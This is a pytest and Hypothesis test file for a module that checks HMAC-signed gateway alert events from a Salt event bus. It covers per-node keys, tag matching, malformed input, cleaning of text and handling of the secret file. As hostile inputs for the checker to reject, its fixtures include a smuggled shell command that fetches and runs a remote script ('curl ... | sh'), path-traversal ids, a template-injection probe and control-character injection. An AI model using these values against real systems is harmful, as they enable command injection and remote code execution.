"""Only what a node itself has signed counts as an event, and no input makes the check raise."""
from __future__ import annotations

import json
import math
import os
import stat
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerts import authentic
from tests.conftest import EXAMPLES

SECRET = bytes(range(32))


def plain(**changed: object) -> dict:
    return {"version": 1, "journal": "00112233aabbccdd", "n": 7, "id": "gw1.winterthur", "site": "winterthur",
            "node": "gw1", "role": "active", "beacon": "bonding", "condition": "slave_down", "subject": "bond0/eth1",
            "severity": "warning", "was": "up", "is": "down", "since": "2024-05-01T10:00:00.000Z",
            "at": "2024-05-01T10:00:00.120Z", "recovered": False, "once": False, "cause": "", "facts": {"mii": "down"},
            **changed}


def signed(**changed: object) -> dict:
    event = plain(**changed)
    return authentic.sign(event, authentic.key_of(SECRET, str(event["id"])))


TAG = "salt/beacon/gw1.winterthur/bonding/slave_down"
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text() | st.integers(), inner, max_size=4),
    max_leaves=12)
few = settings(max_examples=25, deadline=None)


def test_a_signed_event_is_taken_from_the_bus_and_from_an_answer():
    event, why = authentic.check(signed(), TAG, SECRET)
    assert not why
    assert (event.id, event.site, event.node, event.now, event.n) == ("gw1.winterthur", "winterthur", "gw1", "down", 7)
    assert authentic.check(signed(), None, SECRET)[0] == event
    assert authentic.tag_of(event) == TAG


def test_what_salt_adds_on_the_way_does_no_harm():
    assert authentic.check(signed() | {"_stamp": "2024", "traceparent": "x"}, TAG, SECRET)[0]
    assert authentic.check(json.loads(json.dumps(signed())), TAG, SECRET)[0]


def test_an_event_of_event_fire_master_stands_under_data():
    assert authentic.payload({"id": "gw1.winterthur", "tag": TAG, "data": signed()}) == signed()
    assert authentic.payload(signed()) == signed()
    assert authentic.payload(7) == 7


def test_the_master_signs_for_itself():
    event, why = authentic.check(signed(id="master", beacon="master", condition="node_silent"),
                                 "gateway/master/node_silent", SECRET)
    assert (event.site, event.node, why) == ("winterthur", "", "")


@pytest.mark.parametrize("beacon", authentic.MASTER_BEACONS)
def test_what_only_the_master_may_say_is_refused_from_a_node(beacon):
    """With its own, right signature a gateway reported `apart`, with a command as the subject."""
    lie = signed(beacon=beacon, condition="apart", subject="winterthur; curl -s http://203.0.113.9/x | sh #")
    assert authentic.check(lie, f"salt/beacon/gw1.winterthur/{beacon}/apart", SECRET) == (None, "the master's")
    assert authentic.check(lie, None, SECRET) == (None, "the master's")
    other = authentic.sign(lie | {"id": "master"}, authentic.key_of(SECRET, "gw1.winterthur"))
    assert authentic.check(other, None, SECRET) == (None, "signature")


def test_each_node_has_a_key_of_its_own():
    assert authentic.key_of(SECRET, "gw1.winterthur") != authentic.key_of(SECRET, "gw2.winterthur")
    other = authentic.sign(plain(), authentic.key_of(SECRET, "gw2.winterthur"))
    assert authentic.check(other, TAG, SECRET) == (None, "signature")
    assert authentic.check(signed(), TAG, b"another") == (None, "signature")


@pytest.mark.parametrize("field", sorted(plain()))
def test_a_changed_field_breaks_the_signature(field):
    event = signed()
    event[field] = {"n": 8, "version": 1, "facts": {}, "recovered": True, "once": True, "id": "gw1.bern",
                    "role": "standby", "journal": "ffffffffffffffff", "severity": "info", "beacon": "drift",
                    "condition": "bond_down", "since": "2024-05-01T10:00:01Z",
                    "at": "2024-05-01T10:00:01Z"}.get(field, "other")
    if field != "version":
        assert authentic.check(event, None, SECRET) == (None, "signature")


def test_the_tag_has_to_be_the_events_own():
    for tag in (TAG.replace("gw1", "gw2"), TAG.replace("slave", "bond"), TAG + "/", "", "salt/beacon/"):
        assert authentic.check(signed(), tag, SECRET) == (None, "tag")


def test_a_node_without_a_key_is_told_from_a_liar():
    assert authentic.check(plain(), TAG, SECRET) == (None, "unsigned")
    for lie in ("x", "0" * 64, 7, ["0"], {"a": 1}, True):
        assert authentic.check(plain(signature=lie), TAG, SECRET) == (None, "signature")


@pytest.mark.parametrize("changed", [
    {"n": True}, {"n": 0}, {"n": -1}, {"n": 1.0}, {"n": 2**60}, {"n": 10**5000}, {"version": 2}, {"version": True},
    {"id": "gw1"}, {"id": "GW1.winterthur"}, {"id": "gw1.winterthur/../bern"}, {"id": "gw1.winterthur\n"},
    {"id": "*"}, {"id": "x" * 400}, {"journal": "../../etc"}, {"journal": ""}, {"role": "king"}, {"severity": "fatal"},
    {"severity": ["info"]}, {"beacon": "a/b"}, {"condition": "{{ 7 * 7 }}"}, {"subject": "x" * 301}, {"subject": b"x"},
    {"was": None}, {"is": 7}, {"cause": "x" * 3000}, {"since": "yesterday"}, {"at": 1714557600}, {"recovered": 0},
    {"once": "yes"}, {"facts": []}, {"facts": {"a": math.nan}}, {"facts": {"a": math.inf}}, {"facts": {1: "a"}},
    {"facts": {"a": b"x"}}, {"facts": {"a": "x" * 9000}}, {"facts": {"a": [0] * 2000}}, {"facts": {"a": (1,)}},
    {"facts": {"a": 2**70}}, {"facts": {"a": {"a": {"a": {"a": {"a": {"a": {}}}}}}}},
])
def test_what_has_the_wrong_shape_is_not_looked_at_further(changed):
    assert authentic.check(plain(**changed) | {"signature": "0" * 64}, None, SECRET) == (None, "malformed")


@few
@given(json_values)
def test_anything_at_all_is_refused_without_falling_over(value):
    assert authentic.check(value, TAG, SECRET)[0] is None
    assert authentic.check(authentic.payload(value), None, SECRET)[0] is None


@few
@given(st.sampled_from(sorted(plain())), json_values)
def test_no_field_makes_it_fall_over_and_nothing_is_taken_unsigned(field, value):
    for event in (plain() | {field: value}, signed() | {field: value}):
        its, why = authentic.check(event, TAG, SECRET)
        assert bool(its) != bool(why)
        assert not its or "signature" in event


@few
@given(st.dictionaries(st.text(max_size=20), st.integers(-2**63, 2**63) | st.text(max_size=50) | st.booleans()
                       | st.floats(allow_nan=False, allow_infinity=False), max_size=5), st.text(max_size=100))
def test_whatever_is_signed_is_true_after_json(facts, subject):
    event = json.loads(json.dumps(signed(facts=facts, subject=subject)))
    its, why = authentic.check(event, TAG, SECRET)
    assert (why, its.facts) == ("", facts)
    assert its.subject.isprintable() or its.subject == ""


def test_a_knotted_event_is_refused():
    knot: dict = {}
    knot["facts"] = knot
    assert authentic.check(knot, TAG, SECRET) == (None, "malformed")
    deep: list = []
    for _ in range(20_000):
        deep = [deep]
    assert authentic.check(plain(facts={"a": deep}), TAG, SECRET) == (None, "malformed")
    while deep:                 # Python's own destructor would recurse as deep
        deep = deep.pop()


def test_a_node_can_not_speak_for_another_site():
    event, _ = authentic.check(signed(site="bern", node="gw-a"), TAG, SECRET)
    assert (event.site, event.node) == ("winterthur", "gw1")


def test_texts_are_made_printable():
    event, _ = authentic.check(signed(subject="a\r\nBcc: x\x1b[31m\u202e", cause="\ud800"), TAG, SECRET)
    assert event.subject == "a  Bcc: x [31m " and event.cause == " "


def test_what_a_node_says_is_cut_as_an_honest_one_cuts_it():
    event, _ = authentic.check(signed(subject="\U0001f600" * 300, cause="é" * 1900, was="x" * 1000), TAG, SECRET)
    assert len(json.dumps(event.subject)) <= 300 and len(json.dumps(event.cause)) <= 1000 and len(event.was) < 1000
    assert event.subject.endswith("…") and event.now == "down"
    own, _ = authentic.check(signed(id="master", beacon="master", **{"is": "x" * 1500}), None, SECRET)
    assert len(own.now) == 1500, "what the master itself says is whole"


# The secret


def test_the_secret_is_made_once_and_for_its_owner_only(tmp_path):
    with ThreadPoolExecutor(8) as pool:
        made = set(pool.map(lambda _: authentic.load_secret(tmp_path), range(32)))
    assert len(made) == 1 and len(made.pop()) == 32
    assert os.listdir(tmp_path) == ["gateway_events.key"]
    assert stat.S_IMODE((tmp_path / "gateway_events.key").stat().st_mode) == 0o600


def test_a_damaged_secret_is_named_not_replaced(tmp_path):
    (tmp_path / "gateway_events.key").write_text("short")
    with pytest.raises(ValueError, match="64 hexadecimal digits"):
        authentic.load_secret(tmp_path)
    assert (tmp_path / "gateway_events.key").read_text() == "short"


# The site of a minion


@pytest.mark.parametrize("minion_id, site", [
    ("gw1.winterthur", "winterthur"), ("gw2.winterthur.example.org", "winterthur"), ("gw-a.bern", "bern"),
    ("laptop.winterthur", ""), ("gw1.bern", ""), ("web.example.org", ""), ("web", ""), ("gw1.winterthur/../bern", ""),
    ("gw1.../schema", ""), ("gw1.schema", ""), ("*.winterthur", ""), ("", "")])
def test_the_sender_is_a_node_of_a_site_in_pillar(minion_id, site):
    assert authentic.Sites([str(EXAMPLES)]).sender(minion_id) == site


def test_a_changed_site_is_read_again(tmp_path):
    (tmp_path / "sites").mkdir()
    file, sites = tmp_path / "sites/basel.sls", authentic.Sites([str(tmp_path)])
    assert sites.nodes("basel") == () and sites.names() == []
    file.write_text("gateway: {nodes: {a: {}}}")
    assert sites.sender("a.basel") == "basel" and sites.names() == ["basel"]
    file.write_text("gateway: {nodes: {a: {}, b2: {}}}")
    assert sites.nodes("basel") == ("a", "b2")
    file.write_text("gateway: [}")
    assert sites.nodes("basel") == ()
    file.unlink()
    assert sites.sender("a.basel") == ""
